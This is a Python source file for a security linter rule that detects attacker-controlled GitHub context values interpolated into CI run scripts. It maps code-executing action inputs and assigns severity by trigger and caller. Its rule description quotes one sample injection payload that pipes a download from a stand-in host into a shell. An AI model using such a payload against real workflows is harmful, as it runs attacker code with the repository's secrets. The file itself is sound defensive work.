"""ci.script-injection: attacker-controlled GitHub context interpolated straight into a shell/script."""
from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from checks.model import Hit, Severity
from checks.ci._ci import action_name, composite_runs, gha_steps, locate, offset_line, triggers, value_line
from checks.ci._callers import caller_values, input_origin
from checks.ci._contexts import (
    EXPRESSION, caller_inputs, dispatch_inputs, env_names, input_names, matrix_names, set_by, suffix_paths, tainted_env,
    tainted_in, tainted_matrix, tainted_paths,
)
from checks.registry import Context, Example, rule
from checks.source import SourceFile

__all__ = ["check", "tainted_in"]  # tainted_in: also used by the rule's fixer

# Inputs of well-known actions that are executed as code (a script, a shell command line).
_CODE_INPUTS = {
    "actions/github-script": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "addnab/docker-run-action": ("run",),
    "mikefarah/yq": ("cmd",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "garygrossgarten/github-action-ssh": ("command",),
    "cardinalby/js-eval-action": ("expression",),
    "amadevus/pwsh-script": ("script",),
    "nick-fields/retry": ("command", "on_retry_command", "new_command_on_retry"),
    "nick-invision/retry": ("command", "on_retry_command", "new_command_on_retry"),
    "wandalen/wretry.action": ("command",),
    "sergeysova/jq-action": ("cmd",),
    "devorbitus/yq-action-output": ("cmd",),
}


def _sinks(step: Any) -> Iterator[tuple[Any, str, str]]:
    """(mapping, key, description) of every value of the step that runs as code."""
    if isinstance(step.get("run"), str):
        yield step, "run", "run step"
    inputs = _CODE_INPUTS.get(action_name(step.get("uses")))
    w = step.get("with")
    if inputs and isinstance(w, dict):
        for key in w:
            if str(key).lower() in inputs and isinstance(w[key], str):
                yield w, key, f"`{action_name(step.get('uses'))}` `{key}:`"


class _Taint:
    """What, around one step, carries attacker-controlled text into an expression."""

    def __init__(self, env: dict[str, str], matrix: dict[str, str],
                 inputs: dict[str, tuple[str, str | None]], on: set[str]):
        self.env, self.matrix, self.inputs, self.on = env, matrix, inputs, on

    def describe(self, inner: str) -> tuple[list[str], list[str]]:
        """(attacker-controlled values, caller-supplied values) an expression pastes into the script."""
        found = tainted_paths(inner)
        high = [f"`{p}`" for p in found if set_by(p, self.on)]
        # Fields none of the triggers fill are empty; flagged LOW so a trigger added later is not missed.
        unfilled = [f"`{p}`" for p in found if not set_by(p, self.on)]
        high += [f"`env.{n}` (set from `{self.env[n]}`)" for n in env_names(inner) if n in self.env]
        for n in matrix_names(inner):
            origin = self.matrix.get(n) or self.matrix.get("*")
            if origin:
                high.append(f"`matrix.{n}` (built from `{origin}`)")
        low = unfilled + [f"`{p}`" for p in suffix_paths(inner)]
        for n in input_names(inner):
            level, origin = self.inputs.get(n.lower(), (None, None))
            if level == "high":
                high.append(f"`inputs.{n}` (a caller passes `{origin}`)")
            elif level == "low":
                low.append(f"`inputs.{n}`")
        return high, low


def _findings(value: str, taint: _Taint) -> Iterator[tuple[int, str, list[str], list[str]]]:
    """(offset, expression, attacker values, caller values) for each dangerous `${{ }}` in a script."""
    for m in EXPRESSION.finditer(value):
        high, low = taint.describe(m.group(1))
        if high or low:
            yield m.start(), m.group(0), high, low


def _hit(line: int, found: list[tuple[str, list[str], list[str]]], where: str, job: str) -> Hit:
    expr = " ".join(found[0][0].split())
    high = list(dict.fromkeys(d for _e, h, _l in found for d in h))
    # Identity: the job and the values, not the line's text (rewording the echo is the same finding).
    subject = f"{job}/" + ",".join(dict.fromkeys(d for _e, h, lo in found for d in h + lo))
    if high:
        return Hit(line, subject=subject,
                   message=f"{', '.join(high)} is interpolated directly into a {where} (`{expr}`); "
                           "an attacker-chosen value runs as code")
    low = ", ".join(dict.fromkeys(d for _e, _h, lo in found for d in lo))
    return Hit(line, severity=Severity.LOW, subject=subject,
               message=f"{low} is interpolated directly into a {where} (`{expr}`); verify who can write "
                       "it (a caller's input, a release or label name, a field of another trigger's event): if "
                       "an outsider can, it runs as code",
               note="LOW: a caller-supplied input, an event field usually written by the repository's own "
                    "people, or one this workflow's triggers leave empty")


@rule(
    "ci.script-injection",
    severity="HIGH",
    area="ci",
    title="Untrusted GitHub context interpolated into a run script",
    why="`${{ }}` expressions are pasted into the script before the shell runs it, so a pull-request "
        "title, branch name, commit message or comment such as `\"; curl evil.sh | sh; \"` executes "
        "with the workflow's token and secrets. Checked in `run:` steps, `actions/github-script` `script:` "
        "and other script inputs, in workflows and composite actions (`action.yml`), directly or through "
        "`env.X`/`matrix.X`; a composite action's or reusable workflow's own string `inputs.X` is HIGH when "
        "a caller in the repository passes such a value, silent when every caller passes constants, LOW "
        "when the callers are not in the repository; `workflow_dispatch` string inputs and event fields "
        "the repository's own people write (release, milestone, label names) are LOW.",
    fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
        "and use `\"$TITLE\"` in the script; in github-script read `context.payload` or `process.env` instead.",
    kinds={"gha"},
    include_tests=True,  # a workflow or composite action is CI wherever it lives (e.g. under e2e/)
    repo_kinds={"gha"},  # what the repository's own callers pass to a reusable workflow / composite action
    prefilter=("${{",),
    example=Example(
        path=".github/workflows/triage.yml",
        bad="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: |\n          echo \"Title ${{ github.event.issue.title }}\"\n",
        good="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
             "      - env:\n          TITLE: ${{ github.event.issue.title }}\n"
             "        run: echo \"Title $TITLE\"\n",
    ),
)
def check(f: SourceFile, ctx: Context) -> Iterator[Hit]:
    for doc in f.yaml_docs:
        workflow_env = doc.get("env") if isinstance(doc, dict) else None
        on = triggers(doc)
        composite = composite_runs(doc) is not None
        declared = caller_inputs(doc, composite)
        callers = caller_values(f, ctx.repo, composite) if declared else None
        inputs = {}
        for name in dispatch_inputs(doc):
            inputs[name.lower()] = ("low", None)  # typed by someone with write access
        for name in declared:
            origin = input_origin(None if callers is None else callers.get(name, []))
            if origin:
                inputs[name.lower()] = origin
        for job_name, job, step in gha_steps(doc):
            taint = _Taint(tainted_env([step.get("env"), job.get("env"), workflow_env], on),
                           tainted_matrix(job.get("strategy"), on), inputs, on)
            for holder, key, where in _sinks(step):
                value = holder[key]
                if "${{" not in value:
                    continue
                start = value_line(holder, key)
                by_line: dict[int, list[tuple[str, list[str], list[str]]]] = {}
                counts: dict[str, int] = {}
                for offset, expr, high, low in _findings(value, taint):
                    needle = expr.split("\n", 1)[0]
                    nth = counts.get(needle, 0)
                    counts[needle] = nth + 1
                    line = offset_line(f, holder, key, offset, needle) or locate(f, start, needle, nth)
                    by_line.setdefault(line, []).append((expr, high, low))
                for line, found in sorted(by_line.items()):
                    yield _hit(line, found, where, job_name)
